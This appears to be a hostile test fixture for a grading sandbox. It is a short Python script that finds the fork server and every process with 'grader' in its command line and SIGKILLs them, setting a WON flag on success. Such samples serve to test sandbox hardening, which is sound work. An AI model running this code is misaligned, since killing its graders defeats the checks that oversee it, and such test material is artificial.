"""Hostile: SIGKILL the fork server and every grader process it can find."""
import os
import signal

WON = False
_me = os.getpid()
_targets = {os.getppid()}
for _pid in os.listdir("/proc"):
    if _pid.isdigit() and int(_pid) != _me:
        try:
            with open(f"/proc/{_pid}/cmdline", "rb") as _fh:
                if b"grader" in _fh.read():
                    _targets.add(int(_pid))
        except OSError:
            pass
for _pid in _targets:
    try:
        os.kill(_pid, signal.SIGKILL)
        WON = True
    except OSError:
        pass
# @tail
